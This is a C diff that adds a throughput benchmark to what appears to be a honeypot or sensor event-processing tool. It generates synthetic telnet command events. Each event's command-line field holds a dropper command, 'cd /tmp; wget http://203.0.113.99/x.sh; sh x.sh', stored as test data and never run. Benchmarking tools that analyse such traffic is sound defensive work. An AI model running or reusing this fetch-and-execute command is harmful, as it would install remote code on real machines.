@@ -184,6 +184,35 @@ static double text_mb_per_s(struct view *v)
 	return (double)done / used / 1e6;
 }
 
+static double events_per_s(struct view *v)
+{
+	static struct event in, out;
+	struct id_maker maker = id_maker_new();
+	const struct address src = address_v4(0xcb007105), dst = address_v4(0x0a140102);
+	uint64_t done = 0;
+	const double begin = cpu_s();
+	double used;
+	do {
+		for (unsigned i = 0; i < 256; i++) {
+			event_begin(&in, EVENT_COMMAND_SENT);
+			in.time_us = UINT64_C(1434000000000000) + i;
+			in.id = id_make(&maker, in.time_us);
+			event_set_id(&in, FIELD_SESSION, &in.id);
+			event_set_address(&in, FIELD_SRC, &src);
+			event_set_address(&in, FIELD_DST, &dst);
+			event_set_number(&in, FIELD_DPORT, 23);
+			event_set_text(&in, FIELD_PROTO, "tcp");
+			event_set_text(&in, FIELD_SERVICE, "telnet");
+			event_set_text(&in, FIELD_SENSOR, "north");
+			event_set_bytes(&in, FIELD_COMMAND_LINE, BYTES("cd /tmp; wget http://203.0.113.99/x.sh; sh x.sh"));
+			view_event(v, &in, &out);
+		}
+		done += 256;
+		used = cpu_s() - begin;
+	} while (used < SECONDS_EACH / 2);
+	return (double)done / used;
+}
+
 static int write_capture(const struct frames *f, const char *path, uint64_t packets)
 {
 	static const uint32_t head[6] = {0xa1b2c3d4, 0x00040002, 0, 0, 262144, 1};
@@ -219,6 +248,7 @@ int main(int argc, char **argv)
 	       plain / 1e6);
 	printf("addresses of IPv6, all new             %6.2f M/s\n", addresses_per_s(v, true) / 1e6);
 	printf("text of commands                       %6.1f MB/s\n", text_mb_per_s(v));
+	printf("events, a command each                 %6.2f M/s\n", events_per_s(v) / 1e6);
 	view_close(v);
 	return 0;
 }
